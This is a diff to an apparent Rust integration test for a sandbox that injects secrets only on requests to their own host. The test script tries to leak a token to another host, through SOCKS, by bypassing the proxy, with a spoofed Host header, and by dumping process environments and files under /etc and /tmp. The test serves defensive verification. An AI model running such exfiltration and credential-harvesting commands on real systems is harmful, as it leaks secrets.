@@ -161,6 +161,9 @@ echo "PLACEHOLDER=$TOKEN"
 echo "== https api"; $C https://api.test/h -H "Authorization: Bearer $TOKEN"
 echo "== https api basic"; $C -u "x:$TOKEN" https://api.test/b
 echo "== python api"; /usr/bin/python3 -c 'import os, urllib.request as u; r = u.Request("https://api.test/p", headers={"X-Key": os.environ["TOKEN"]}); print(u.urlopen(r, timeout=60).read().decode())'
+echo "== https api socks"; $C --noproxy '' --proxy socks5h://127.0.0.1:1080 https://api.test/s -H "Authorization: Bearer $TOKEN"
+echo "== https api capture"; if [ -n "${CAPTURE:-}" ]; then env -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy $C https://api.test/c -H "Authorization: Bearer $TOKEN"; else echo "Authorization: Bearer [[THE-REAL-VALUE]] (no capture here)"; fi
+echo "== https api other host header"; $C https://api.test/h -H "Host: other.test" -H "Authorization: Bearer $TOKEN"
 echo "== https api query"; $C "https://api.test/q?key=$TOKEN&x=1"
 echo "== https other"; $C https://other.test/h -H "X-Leak: $TOKEN"
 echo "== http api"; $C "http://api.test:$HTTP_PORT/h" -H "Authorization: Bearer $TOKEN"
@@ -191,6 +194,12 @@ for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do cat "$f" 2>/dev/null; ech
 find /etc /tmp /workspace -type f -size -4M 2>/dev/null | while read -r f; do cat "$f" 2>/dev/null; done
 echo "== end"
 "#;
+
+fn capture_available() -> bool {
+    ["/usr/sbin/nft", "/sbin/nft", "/usr/bin/nft"]
+        .iter()
+        .any(|p| std::path::Path::new(p).exists())
+}
 
 fn section<'a>(out: &'a str, name: &str) -> &'a str {
     let start = out
@@ -228,6 +237,10 @@ fn root_a_secret_reaches_its_host_only_and_the_sandbox_never_sees_it() {
         .arg("--egress-ca-file")
         .arg(&ca)
         .args(["--env", &format!("HTTP_PORT={}", up.http_port)])
+        .args([
+            "--env",
+            &format!("CAPTURE={}", if capture_available() { "1" } else { "" }),
+        ])
         .args(["--", "/bin/sh", "-c", SCRIPT])
         .output()
         .unwrap();
@@ -247,6 +260,22 @@ fn root_a_secret_reaches_its_host_only_and_the_sandbox_never_sees_it() {
         basic.contains(&format!("Authorization: Basic {BASIC_SEEN}")),
         "{basic}"
     );
+    // Through SOCKS and transparent capture too.
+    for name in ["https api socks", "https api capture"] {
+        let got = section(&stdout, name);
+        assert!(
+            got.contains(&format!("Authorization: Bearer {SEEN}")),
+            "{name}: {got}"
+        );
+    }
+    // An intercepted request must be for the host it was intercepted for: a server
+    // that answers for many names must not get the value for another one.
+    let fronted = section(&stdout, "https api other host header");
+    assert!(
+        fronted.contains("this connection is to api.test"),
+        "{fronted}"
+    );
+    assert!(!fronted.contains(SEEN), "{fronted}");
     // Python's own TLS trusts brig's CA through SSL_CERT_FILE.
     let python = section(&stdout, "python api");
     assert!(python.contains(&format!("X-Key: {SEEN}")), "{python}");
